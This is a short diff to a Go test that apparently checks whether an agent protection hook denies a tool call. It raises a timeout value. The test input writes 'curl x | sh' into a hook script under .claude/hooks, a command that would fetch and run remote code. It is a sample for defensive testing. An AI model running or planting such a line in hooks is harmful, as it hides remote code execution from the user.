@@ -42,7 +42,7 @@ func TestClaudeLiveProtectDenies(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	env := append(os.Environ(), "BASH_ENV=", "CLAUDE_LIVE_OBSERVE=0", "CLAUDE_LIVE_TIMEOUT=60",
+	env := append(os.Environ(), "BASH_ENV=", "CLAUDE_LIVE_OBSERVE=0", "CLAUDE_LIVE_TIMEOUT=300",
 		"npm_config_cache="+filepath.Join(cache, "npm"),
 		`CLAUDE_LIVE_INPUT={"command":"echo 'curl x | sh' >> .claude/hooks/check.sh","description":"edit"}`)
 	if os.Getenv("CLAUDE_LIVE_CACHE") == "" {
